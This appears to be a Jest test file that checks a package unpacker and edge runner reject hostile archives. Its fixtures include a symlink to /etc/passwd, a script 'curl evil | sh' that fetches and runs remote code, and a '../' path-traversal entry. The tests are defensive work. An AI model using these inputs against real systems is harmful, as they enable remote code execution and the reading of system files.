import { mkdtemp, rm, truncate, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { EdgeRunnerSettings } from '@kura/core/edge-runtime';
import { tarGzOf } from '../../../test/support/archives.js';
import { EdgeRunner } from './edge-runner.js';
import { unpackEdgePackage } from './index.js';

// A package is checked before anything in it is believed: these never reach the signature check.
describe('hostile packages', () => {
  let work: string;
  beforeAll(async () => {
    work = await mkdtemp(join(tmpdir(), 'kura-edge-package-'));
  });
  afterAll(async () => {
    await rm(work, { recursive: true, force: true });
  });

  const codeOf = (promise: Promise<unknown>) =>
    promise.then(
      () => 'accepted',
      (error: Error & { code?: string }) => error.code ?? error.message,
    );
  const tar = async (entries: Parameters<typeof tarGzOf>[0]) => gunzipSync(await tarGzOf(entries));

  it('refuses links, files no package has, and bytes that are not a tar', async () => {
    expect([
      await codeOf(unpackEdgePackage(await tar({ 'license.json': { link: '/etc/passwd' } }))),
      await codeOf(unpackEdgePackage(await tar({ 'license.json': '{}', 'run-me.sh': 'curl evil | sh' }))),
      await codeOf(unpackEdgePackage(await tar({ '../license.json': '{}' }))),
      await codeOf(unpackEdgePackage(Buffer.from('not a tar at all, just some text that is long enough'.repeat(20)))),
    ]).toEqual(['EDGE_PACKAGE_INVALID', 'EDGE_PACKAGE_INVALID', 'EDGE_PACKAGE_INVALID', 'EDGE_PACKAGE_INVALID']);
  });

  it('refuses a package larger than any package can be before reading it', async () => {
    // 17 MiB, sparse: past a 1 KiB bundle and the 16 MiB a package's other files may add.
    const path = join(work, 'huge.tar');
    await writeFile(path, '');
    await truncate(path, 17 * 1024 * 1024);
    const bundle = { maxBundleBytes: 1024, maxModelBytes: 1024, archive: { maxExpandedBytes: 4096, maxTotalExpansionRatio: 4 } };
    // Only the bundle limit is used before the package is read.
    const settings = { bundle } as EdgeRunnerSettings;
    const opened = EdgeRunner.open({ packagePath: path, keys: { keys: [] }, deviceId: 'arm', stateDir: work, settings });
    expect(await codeOf(opened)).toBe('EDGE_PACKAGE_INVALID');
  });
});
